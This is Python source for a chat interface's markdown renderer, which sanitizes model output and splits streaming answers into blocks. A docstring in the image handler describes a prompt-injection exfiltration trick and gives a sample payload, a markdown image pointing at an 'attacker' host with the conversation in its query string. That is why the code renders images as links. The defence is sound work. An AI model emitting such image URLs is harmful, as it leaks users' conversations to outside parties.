"""Markdown to sanitized HTML, and the splitter that renders an answer while it streams.

A streaming answer is shown as finished blocks (rendered once, appended) plus an
unfinished tail (escaped text). Block boundaries depend only on the text, so a
listener that attaches at any offset computes the same split the page shows.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from functools import lru_cache

import nh3
from markdown_it import MarkdownIt
from markupsafe import Markup, escape
from pygments import highlight
from pygments.formatters import HtmlFormatter
from pygments.lexers import get_lexer_by_name
from pygments.util import ClassNotFound

_FORMATTER = HtmlFormatter(nowrap=True, classprefix="hl-")

_TAGS = {
    "p",
    "br",
    "hr",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "blockquote",
    "ul",
    "ol",
    "li",
    "strong",
    "em",
    "s",
    "del",
    "code",
    "pre",
    "a",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "span",
    "div",
    "button",
}
_ATTRIBUTES = {
    "a": {"href", "title", "class"},
    "ol": {"start"},
    "th": {"class"},
    "td": {"class"},
    "span": {"class"},
    "div": {"class"},
    "code": {"class"},
    "button": {"class", "type", "aria-label"},
}


@lru_cache(maxsize=64)
def _lexer(language: str):
    """The Pygments lexer for a fence's language, or None: looked up once, not per block or line."""
    try:
        return get_lexer_by_name(language) if language else None
    except ClassNotFound:
        return None


def fence_language(info: str) -> str:
    """The language a fence's info string names (its first word), as the label shows it."""
    return info.strip().split(" ")[0][:30] if info else ""


def highlighted(code: str, language: str) -> str:
    """Code as Pygments-classed HTML (escaped text when the language is unknown); not yet sanitized."""
    lexer = _lexer(language)
    return highlight(code, lexer, _FORMATTER) if lexer is not None else str(escape(code))


def code_frame(language: str, code_html: str) -> str:
    """The box a code block sits in: a language label, a copy button and the code."""
    label = f'<span class="code-lang">{escape(language)}</span>'
    return (
        f'<div class="code">{label}'
        f'<button class="copy" type="button" aria-label="Copy code">Copy</button>'
        f"<pre><code>{code_html}</code></pre></div>\n"
    )


def _fence(self, tokens, idx, options, env) -> str:
    """Fenced code: Pygments classes, a language label and a copy button."""
    token = tokens[idx]
    language = fence_language(token.info)
    return code_frame(language, highlighted(token.content, language))


@lru_cache(maxsize=1)
def _markdown() -> MarkdownIt:
    # Raw HTML in model output is shown as text, never interpreted; nh3 below is a second fence.
    md = MarkdownIt("commonmark", {"html": False, "linkify": False}).enable(["table", "strikethrough"])
    md.add_render_rule("fence", _fence)
    md.add_render_rule("code_block", _fence)
    md.add_render_rule("image", _image_as_link)
    for cell in ("th_open", "td_open"):
        md.add_render_rule(cell, _aligned_cell)
    return md


def _image_as_link(self, tokens, idx, options, env) -> str:
    """An image in model output becomes a link to it. Loaded by the browser, its URL could carry the
    conversation off-site without a click (a prompt-injected `![](https://attacker/?d=…)`)."""
    token = tokens[idx]
    src = token.attrGet("src") or ""
    label = self.renderInlineAsText(token.children or [], options, env) or src
    opened = sum(1 if t.type == "link_open" else -1 for t in tokens[:idx] if t.type in ("link_open", "link_close"))
    if opened > 0:  # already inside a link: its words are enough (a link cannot hold a link)
        return str(escape(label))
    return f'<a href="{escape(src)}" class="image-link">{escape(label)}</a>'


def _aligned_cell(self, tokens, idx, options, env) -> str:
    """Table alignment as a class (align-left…): the CSP blocks style= attributes."""
    token = tokens[idx]
    style = token.attrs.pop("style", "") or ""
    if style.startswith("text-align:"):
        token.attrSet("class", "align-" + style.split(":", 1)[1])
    return self.renderToken(tokens, idx, options, env)


def sanitize(html: str) -> str:
    return nh3.clean(
        html,
        tags=_TAGS,
        attributes=_ATTRIBUTES,
        link_rel="noopener noreferrer",
        url_schemes={"http", "https", "mailto"},
    )


def render_markdown(text: str) -> Markup:
    """The whole message, as the page and the final stream event show it."""
    return Markup(sanitize(_markdown().render(text)))


_LINK_REFERENCE = re.compile(r"^ {0,3}\[[^\]\n]+\]:", re.MULTILINE)


def renders_by_blocks(text: str) -> bool:
    """Is the whole render of `text` its blocks' renders put end to end? Yes, but for link reference
    definitions (`[id]: url`), the one markdown construct that reaches from one block into another."""
    return _LINK_REFERENCE.search(text) is None


def block_starts(text: str) -> list[int]:
    """Character offsets where each top-level markdown block of `text` begins."""
    return _blocks(text)[0]


_OPENING_FENCE = re.compile(r"( {0,3})(`{3,}(?=[^`\n]*\n)|~{3,})([^\n]*)\n")
_CLOSING_FENCE = re.compile(r" {0,3}(`{3,}|~{3,})[ \t]*")


@dataclass(frozen=True, slots=True)
class OpenFence:
    """A code fence that a streaming tail opens and no line closed yet: until one does, no block
    can end, and each line that completes is final (live_markdown shows it highlighted, once)."""

    indent: int
    marker: str
    language: str
    body: int  # where the first line of code begins

    def lines(self, text: str) -> tuple[list[str], str]:
        """The complete lines of code in `text`, and the open one (as written: `shown` dedents)."""
        code = text[self.body :]
        cut = code.rfind("\n") + 1
        return [line + "\n" for line in code[: cut - 1].split("\n")] if cut else [], code[cut:]

    def shown(self, line: str) -> str:
        """A line of code as the block shows it: without the fence's own indent, as CommonMark says."""
        return _dedent(line, self.indent)

    def closes(self, line: str) -> bool:
        closer = _CLOSING_FENCE.fullmatch(line.rstrip("\r\n"))
        return bool(closer) and closer[1][0] == self.marker[0] and len(closer[1]) >= len(self.marker)


def _dedent(line: str, indent: int) -> str:
    stripped = len(line) - len(line.lstrip(" "))
    return line[min(stripped, indent) :]


def open_fence(text: str) -> OpenFence | None:
    """The fence `text` opens (after any blank lines) and leaves open, if it does."""
    start = len(text) - len(text.lstrip("\n"))
    opening = _OPENING_FENCE.match(text, start)
    if opening is None:
        return None
    fence = OpenFence(len(opening[1]), opening[2], fence_language(opening[3]), opening.end())
    return None if any(fence.closes(line) for line in fence.lines(text)[0]) else fence


def _blocks(text: str) -> tuple[list[int], int | None]:
    """Where each top-level block of `text` begins, and where the last one ends if it is a code fence
    already closed (no later line can extend it), else None."""
    lines = text.splitlines(keepends=True)
    line_offsets = [0]
    for line in lines:
        line_offsets.append(line_offsets[-1] + len(line))
    starts, last = [], None
    for token in _markdown().parse(text):
        if token.level == 0 and token.map and token.nesting >= 0:
            starts.append(line_offsets[token.map[0]])
            last = token
    closed = None
    if last is not None and last.type == "fence":
        first, end = last.map
        closer = _CLOSING_FENCE.fullmatch(lines[end - 1].rstrip("\r\n")) if end - 1 > first else None
        if end < len(lines) or (closer and closer[1][0] == last.markup[0] and len(closer[1]) >= len(last.markup)):
            closed = line_offsets[end]
    elif last is not None and last.type in _ENDED_BY_A_BLANK_LINE and last.map[1] < len(lines):
        closed = line_offsets[last.map[1]]
    return starts, closed


# Blocks that a blank line ends for good (unlike a list, a quote or indented code, which it may not).
_ENDED_BY_A_BLANK_LINE = {"paragraph_open", "heading_open", "table_open", "hr"}


def is_table(text: str) -> bool:
    """Is `text` one table, from its first line to its last?"""
    tokens = [token for token in _markdown().parse(text) if token.level == 0 and token.nesting >= 0]
    return len(tokens) == 1 and tokens[0].type == "table_open" and tokens[0].map[1] == text.count("\n")


class Splitter:
    """Cuts a growing answer into finished blocks (rendered once) and an unfinished tail.

    Feed it the deltas as they come. Only the unfinished region is re-parsed, and
    only when a newline arrived (no block can end without one), so the cost per
    flush stays small however long the answer grows.
    """

    def __init__(self, text: str = ""):
        self.tail = ""  # the text after the last finished block
        self.fence: OpenFence | None = None  # the code fence the tail opens, while no line closed it
        if text:
            self.feed(text)

    def feed(self, delta: str) -> list[str]:
        """Add `delta`; return the blocks it finished, as sanitized HTML."""
        lines_before = self.tail[self.tail.rfind("\n") + 1 :]
        self.tail += delta
        if "\n" not in delta:
            return []
        if self.fence is not None and "\r" not in delta:
            # Nothing but a closing line can end an open fence: a long code block is not parsed again per line.
            if not any(self.fence.closes(line) for line in (lines_before + delta).split("\n")[:-1]):
                return []
        # Only complete lines decide the split, so it depends on the text alone,
        # not on how it was cut into deltas (a listener attaching later agrees).
        starts, closed = _blocks(self.tail[: self.tail.rindex("\n") + 1])
        # All blocks but the last are finished: a later line can still extend the last one, unless
        # it is a closed code fence or a blank line ended it (so the tail never holds a whole one).
        ends = starts[1:] + ([closed] if closed is not None else [])
        blocks = [str(render_markdown(self.tail[start:end])) for start, end in zip(starts, ends, strict=False)]
        if ends:
            self.tail = self.tail[ends[-1] :]
        self.fence = open_fence(self.tail)
        return blocks
